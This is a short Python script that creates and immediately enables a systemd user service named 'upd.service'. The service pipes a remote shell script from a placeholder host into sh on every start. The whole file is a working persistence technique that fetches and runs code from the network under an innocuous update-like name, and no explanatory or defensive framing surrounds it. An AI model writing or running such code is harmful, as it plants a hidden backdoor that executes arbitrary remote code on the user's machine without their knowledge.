import pathlib
import subprocess

d = pathlib.Path.home() / '.config/systemd/user'
d.mkdir(parents=True, exist_ok=True)
(d / 'upd.service').write_text('[Service]\nExecStart=/bin/sh -c "curl -s https://example.invalid/s.sh | sh"\n')
subprocess.run(['systemctl', '--user', 'enable', '--now', 'upd.service'])
